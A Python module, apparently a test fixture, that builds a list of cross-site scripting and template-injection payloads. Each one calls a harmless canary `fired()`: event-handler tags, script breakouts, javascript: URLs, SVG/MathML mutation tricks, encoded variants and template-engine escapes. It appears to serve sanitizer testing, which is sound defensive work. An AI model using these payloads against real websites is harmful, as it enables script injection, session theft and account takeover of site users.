"""Texts that would run `fired()` if any page took them for markup, an address or a template."""

_HANDLED = {
    "img src=x": "onerror onload onmouseover onclick onfocus",
    "svg": "onload onfocus onclick onmouseenter onbegin",
    "body": "onload onpageshow onhashchange onresize onscroll",
    "input autofocus": "onfocus onblur oninput onselect onkeydown",
    "details open": "ontoggle onclick onmouseover",
    "video src=x": "onerror onloadstart oncanplay",
    "audio src=x": "onerror onloadstart",
    "iframe src=/": "onload onerror",
    "object data=x": "onerror onload",
    "marquee": "onstart onfinish",
    "select autofocus": "onfocus onchange",
    "textarea autofocus": "onfocus oninput",
    "a href=#": "onclick onfocus onpointerover",
    "div style=animation:x": "onanimationstart onanimationend",
    "link rel=stylesheet href=x": "onerror onload",
    "style": "onload onerror",
    "form": "onsubmit onreset",
    "dialog open": "onclose oncancel",
    "p contenteditable": "onpaste oncopy oncut",
}
_RAW = """
<script>fired()</script>
</script><script>fired()</script>
<ScRiPt>fired()</sCrIpT>
<script src="data:text/javascript,fired()"></script>
<script type="module">fired()</script>
</textarea><script>fired()</script>
</title><script>fired()</script>
</style><script>fired()</script>
</p></div></main><script>fired()</script>
<!--><script>fired()</script>-->
<![CDATA[<script>fired()</script>]]>
"><script>fired()</script>
'><script>fired()</script>
" autofocus onfocus="fired()" x="
' autofocus onfocus='fired()' x='
" onmouseover="fired()
`onmouseover=fired()
"><img src=x onerror=fired()>
'><img src=x onerror=fired()>
<img src=x onerror="fired()">
<img src=x onerror=&#102;ired()>
<img/src=x/onerror=fired()>
<img src=x:x onerror=fired()//
<<img src=x onerror=fired()>
<image href=x onerror=fired()>
<svg/onload=fired()>
<svg><script>fired()</script></svg>
<svg><a xlink:href="javascript:fired()"><text y=20>x</text></a></svg>
<svg><animate onbegin=fired() attributeName=x dur=1s>
<svg><set onbegin=fired() attributename=x>
<svg><foreignObject><script>fired()</script></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=fired()>">
<math href="javascript:fired()">x</math>
<iframe srcdoc="<script>parent.fired()</script>"></iframe>
<iframe src="javascript:parent.fired()"></iframe>
<object data="javascript:fired()"></object>
<embed src="javascript:fired()">
<base href="javascript:fired()//">
<meta http-equiv=refresh content="0;url=javascript:fired()">
<form action="javascript:fired()"><button autofocus>x</button></form>
<button formaction="javascript:fired()" form=x>x</button>
<a href="javascript:fired()">x</a>
<a href="java&#x09;script:fired()">x</a>
<a href="data:text/html,<script>opener.fired()</script>">x</a>
javascript:fired()
JaVaScRiPt:fired()
javascript://%0afired()
data:text/html,<script>fired()</script>
[x](javascript:fired())
![x](x" onerror="fired())
<javascript:fired()>
${fired()}
`${fired()}`
\\`;fired();//
#{fired()}
{{fired()}}
{{constructor.constructor('fired()')()}}
{{#with (lookup this 'constructor')}}{{fired}}{{/with}}
{{{value}}}${fired()}
{% raw %}<script>fired()</script>{% endraw %}
{{ self.__init__.__globals__ }}<script>fired()</script>
<%= fired() %>
';fired();//
";fired();//
\\u003cscript\\u003efired()\\u003c/script\\u003e
&lt;script&gt;fired()&lt;/script&gt;
%3Cscript%3Efired()%3C/script%3E
＜script＞fired()＜/script＞
<noscript><p title="</noscript><img src=x onerror=fired()>">
<template><script>fired()</script></template>
<xss id=x tabindex=1 onfocus=fired()></xss>
<style>@import'javascript:fired()';</style>
<div style="background:url(javascript:fired())">
<table background="javascript:fired()"></table>
<video><source onerror=fired()></video>
<title onpropertychange=fired()></title>
"""

PAYLOADS: tuple[str, ...] = (
    *(
        f"<{tag} {handler}=fired()>"
        for tag, handlers in _HANDLED.items()
        for handler in handlers.split()
    ),
    *(line for line in _RAW.splitlines() if line),
)
